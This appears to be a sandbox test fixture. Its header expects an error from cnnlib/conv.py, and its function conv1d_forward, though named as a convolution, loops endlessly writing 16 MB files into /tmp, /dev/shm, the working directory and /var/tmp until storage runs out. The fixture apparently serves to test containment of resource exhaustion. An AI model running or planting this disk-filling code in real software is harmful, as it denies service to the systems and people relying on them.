"""
about = "Fills every place that can be written to."
file = "cnnlib/conv.py"
[expect]
"conv.conv1d_forward" = "error"
"""


def conv1d_forward(x, w, b, stride=1, padding=0):
    number = 0
    while True:
        for folder in ("/tmp", "/dev/shm", ".", "/var/tmp"):
            try:
                with open(f"{folder}/fill{number}", "wb") as file:
                    file.write(b"x" * (1 << 24))
            except OSError:
                if folder == "/var/tmp":
                    raise
        number += 1
